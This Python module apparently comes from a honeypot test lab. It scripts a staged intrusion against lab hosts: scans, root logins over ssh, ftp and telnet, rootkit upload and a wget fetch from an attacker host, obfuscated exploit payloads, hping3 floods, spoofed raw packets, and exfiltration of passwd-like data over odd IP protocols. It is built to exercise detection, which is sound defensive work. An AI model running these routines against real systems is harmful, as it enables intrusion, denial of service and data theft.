# SPDX-License-Identifier: Apache-2.0
"""The scripted intrusion: what a person who gets into a honeypot does next, step by step."""
import time

from . import lab, plan, proc
from .proc import LabError
from .report import report

VICTIM, ATTACKER = plan.host("victim"), plan.host("attacker")
WEB, FILES, OLD = plan.HONEYPOTS

SSH = ["env", "SSH_ASKPASS=/srv/tools/askpass", "SSH_ASKPASS_REQUIRE=force"]
SSH_OPTIONS = ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
	"-o", "LogLevel=ERROR", "-o", "ConnectTimeout=5", "-o", "NumberOfPasswordPrompts=1"]


def ask(honeypot, command, ip6=False, timeout=30):
	"""The intruder types `command` into a shell on a honeypot, over ssh."""
	where = honeypot.ip6 if ip6 else honeypot.ip4
	return proc.on("attacker", *SSH, "ssh", *SSH_OPTIONS, f"root@{where}", command, timeout=timeout)


def scan():
	found = []
	for h in plan.HONEYPOTS:
		versions = [] if h is OLD else ["-sV", "--version-light"]  # telnetd makes nmap wait long
		found += _nmap("attacker", h.ip4, "21-23,80", "-sS", *versions)
		found += _nmap("attacker", h.ip6, "21-23,80", "-6", "-sS")
	return f"{len(found)} open ports on 3 honeypots, IPv4 and IPv6", len(found) == 12


def _nmap(who, target, ports, *options):
	done = proc.on(who, "nmap", "-n", "-Pn", "-T5", "--max-retries", "1", "--host-timeout", "20s",
		"-p", ports, *options, target, timeout=40)
	return [line for line in done.stdout.splitlines() if "/tcp" in line and " open" in line]


def login():
	got = []
	if "uid=0" in ask(WEB, "id; uname -a; w").stdout:
		got.append("ssh web (root)")
	if "uid=0" in ask(FILES, "id", ip6=True).stdout:
		got.append("ssh files over IPv6 (root)")
	ftp = proc.on("attacker", "curl", "-sS", "--user", ":".join(plan.GUEST), f"ftp://{FILES.ip4}/")
	if ftp.returncode == 0:
		got.append("ftp files (guest)")
	if "uid=1000" in _telnet():
		got.append("telnet old (guest)")
	return "in by " + ", ".join(got), len(got) == 4


TELNET = r"""
import socket, sys, time
s = socket.create_connection((sys.argv[1], 23), 10)
said = b""
def until(*words):
	global said
	got = b""
	while not any(w in got for w in words):
		data = s.recv(4096)
		if not data:
			break
		while b"\xff" in data:  # refuse every option
			at = data.index(b"\xff")
			verb, option = data[at + 1], data[at + 2]
			if verb == 250:
				end = data.index(b"\xf0", at) + 1
			else:
				end = at + 3
				if verb in (253, 251):
					s.sendall(bytes([255, 252 if verb == 253 else 254, option]))
			data = data[:at] + data[end:]
		got += data
	said += got
s.settimeout(10)
until(b"ogin:"); s.sendall(sys.argv[2].encode() + b"\r\n")
until(b"assword:"); s.sendall(sys.argv[3].encode() + b"\r\n")
until(b"$ ", b"# "); s.sendall(b"id; exit\r\n")
until(b"groups="); print(said.decode(errors="replace"))
"""


def _telnet():
	return proc.on("attacker", "python3", "-c", TELNET, OLD.ip4, *plan.GUEST).stdout


def upload():
	scp = proc.on("attacker", *SSH, "scp", *SSH_OPTIONS, "/srv/tools/toolkit.sh",
		f"root@{WEB.ip4}:/root/.x")
	ftp = proc.on("attacker", "curl", "-sS", "--user", ":".join(plan.GUEST), "-T",
		"/srv/tools/rootkit.bin", f"ftp://{FILES.ip4}/rootkit.bin")
	return "toolkit.sh by scp to web, rootkit.bin (1 MiB) by ftp to files", \
		scp.returncode == 0 and ftp.returncode == 0


def fetch():
	done = ask(WEB, f"wget -q -T 5 -t 1 -O /tmp/rootkit http://{ATTACKER.ip4}/rootkit.bin && "
		"sha256sum /tmp/rootkit | cut -c1-16")
	return f"web fetches rootkit.bin from the attacker: {done.stdout.strip() or 'nothing came'}", \
		True


SAY = r"""
import socket, sys
for argument in sys.argv[2:]:
	port, data = argument.split("=")
	try:
		with socket.create_connection((sys.argv[1], int(port)), 5) as s:
			s.sendall(bytes.fromhex(data))
			while s.recv(4096):
				pass
			print("sent")
	except OSError as error:
		print(error)
"""


def exploit():
	data = " ".join(f"{port}={sent.hex()}" for _, port, sent, _ in plan.EXPLOITS)
	done = ask(WEB, f"python3 -c 'exec(bytes.fromhex(\"{SAY.encode().hex()}\"))' {VICTIM.ip4} {data}")
	names = ", ".join(name for name, *_ in plan.EXPLOITS)
	return f"web attacks the victim: {names}; {done.stdout.count('sent')} got a connection", \
		done.returncode == 0


def sweep():
	done = ask(WEB, f"nmap -n -Pn -sT -T5 --max-retries 0 --host-timeout 15s -p 1-60 {VICTIM.ip4}")
	return f"web scans 60 ports of the victim, {_open_ports(done)} seem open to it", \
		done.returncode == 0


def ipv6():
	done = ask(OLD, f"nmap -6 -n -Pn -sT -T5 --max-retries 0 --host-timeout 15s -p 1-60 {VICTIM.ip6}",
		ip6=True)
	return f"old scans 60 ports of the victim over IPv6, {_open_ports(done)} seem open to it", \
		done.returncode == 0


def _open_ports(done):
	return sum("/tcp" in line and " open" in line for line in done.stdout.splitlines())


def flood():
	command = "timeout 3 hping3 -q {} -p 80 -c 4000 -i u250 {} 2>&1 | grep transmitted"
	said = [ask(FILES, command.format(how, VICTIM.ip4)).stdout.split() for how in ("-S", "--udp")]
	sent = [int(words[0]) if words else 0 for words in said]
	return f"files floods the victim: {sent[0]} SYN and {sent[1]} UDP packets", all(sent)


def ping():
	done = ask(OLD, f"for i in $(seq 30); do ping -n -c1 -W0.2 {VICTIM.ip4} & done | "
		"grep -c 'bytes from'; wait")
	return f"old pings the victim 30 times, {done.stdout.strip() or 0} answers", True


RAW = r"""
import random, socket, struct
def csum(b):
	b += b"\0" * (len(b) % 2)
	s = sum(struct.unpack(">%dH" % (len(b) // 2), b))
	while s >> 16: s = (s & 65535) + (s >> 16)
	return ~s & 65535
out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind(("eth0", 0))
me = out.getsockname()[4]
def send4(src, dst, proto, body):
	head = struct.pack(">BBHHHBBH4s4s", 69, 0, 20 + len(body), random.getrandbits(16), 0, 64, proto,
		0, socket.inet_aton(src), socket.inet_aton(dst))
	head = head[:10] + struct.pack(">H", csum(head)) + head[12:]
	out.send(VICTIM_MAC + me + b"\x08\x00" + head + body)
def send6(src, dst, proto, body):
	head = struct.pack(">IHBB", 6 << 28, len(body), proto, 64)
	out.send(VICTIM_MAC + me + b"\x86\xdd" + head + socket.inet_pton(10, src) +
		socket.inet_pton(10, dst) + body)
"""


def _raw(honeypot, code):
	mac = bytes.fromhex(VICTIM.mac.replace(":", ""))
	script = (f"VICTIM_MAC = {mac!r}" + RAW + code).encode().hex()
	return ask(honeypot, f"python3 -c 'exec(bytes.fromhex(\"{script}\"))'")


def spoof():
	done = _raw(WEB, f"""
for i in range(200):
	send4("198.51.100.%d" % (i + 1), "{VICTIM.ip4}", 17, struct.pack(">HHHH", 1024 + i, 53, 8, 0))
	send6("2001:db8:5::%x" % (i + 1), "{VICTIM.ip6}", 17, struct.pack(">HHHH", 1024 + i, 53, 8, 0))
	send4("{FILES.ip4}", "{VICTIM.ip4}", 17, struct.pack(">HHHH", 1024 + i, 53, 8, 0))
""")
	return "web sends 600 UDP packets under 401 false addresses, IPv4 and IPv6", \
		done.returncode == 0


def exfil():
	done = _raw(WEB, f"""
for proto in range(11, 21):
	if proto != 17:
		send4("{WEB.ip4}", "{VICTIM.ip4}", proto, b"root:x:0:0:" * 8)
		send6("{WEB.ip6}", "{VICTIM.ip6}", proto, b"root:x:0:0:" * 8)
""")
	return "web sends data out as IP protocols 11 to 20 (18 conversations)", done.returncode == 0


def hop():
	found = []
	for target in (FILES, OLD):
		said = ask(WEB, f"nmap -n -Pn -sT -T5 --max-retries 1 -p 21-23,80 {target.ip4}")
		found.append(_open_ports(said))
	return f"web looks at its neighbours: {found[0]} and {found[1]} open ports", True


STEPS = [
	(scan, "nmap of the honeypots from outside, IPv4 and IPv6"),
	(login, "guessed passwords: ssh, ftp, telnet"),
	(upload, "tools brought in by scp and ftp"),
	(fetch, "a honeypot fetches a tool by http (its first outbound connection)"),
	(hop, "from one honeypot to its neighbours"),
	(exploit, "a honeypot attacks services of the victim"),
	(sweep, "a honeypot scans the victim"),
	(ipv6, "another one scans the victim over IPv6"),
	(flood, "SYN and UDP flood of the victim"),
	(ping, "thirty pings of the victim"),
	(spoof, "false source addresses"),
	(exfil, "data out by odd IP protocols, 11 first of all"),
]


def print_list():
	for step, text in STEPS:
		print(f"  {step.__name__:<8} {text}")


def run_one(name):
	for step, _ in STEPS:
		if step.__name__ == name:
			_need_up()
			_prepare()
			_run(step)
			return report()
	raise LabError(f"no step '{name}'; `fishbowl lab attack --list` names them")


def run_all():
	_need_up()
	_prepare()
	failed = [step.__name__ for step, _ in STEPS if not _run(step)]
	equal = report()
	if failed:
		raise LabError("these steps did not do what they should: " + ", ".join(failed))
	return equal


def _need_up():
	if not lab.is_up():
		raise LabError("the lab is not up; `fishbowl lab up` starts it")


def _prepare():
	proc.on("attacker", "sh", "-c", f"printf '#!/bin/sh\\necho {plan.ROOT_PASSWORD}\\n' "
		">/srv/tools/askpass; chmod 755 /srv/tools/askpass")


def _run(step):
	start = time.monotonic()
	text, good = step()
	mark = " " if good else "!"
	print(f"{mark} {step.__name__:<8} {time.monotonic() - start:5.1f} s  {text}", flush=True)
	return good
